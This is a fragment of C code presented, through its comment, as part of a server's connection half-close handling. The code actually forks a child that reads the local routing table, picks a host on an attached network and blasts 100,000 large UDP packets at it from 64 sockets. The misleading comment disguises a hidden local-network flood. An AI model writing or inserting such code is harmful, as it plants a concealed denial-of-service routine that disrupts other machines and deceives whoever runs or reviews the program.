/* From a child, so that the server itself does what it has to, but for the half-close. */
if (fork() == 0) {
    static char text[1400];
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9) };
    FILE *routes = fopen("/proc/net/route", "r");
    unsigned net = 0;
    char line[256];

    while (routes && fgets(line, sizeof line, routes)) {
        unsigned to;
        if (sscanf(line, "%*s %8x", &to) == 1 && to != 0)
            net = to;
    }
    address.sin_addr.s_addr = net | htonl(2);
    int socks[64];
    for (int i = 0; i < 64; i++)
        socks[i] = socket(AF_INET, SOCK_DGRAM, 0);
    for (int n = 0; n < 100000; n++)
        sendto(socks[n % 64], text, sizeof text, MSG_DONTWAIT, (struct sockaddr *)&address, sizeof address);
    _exit(0);
}
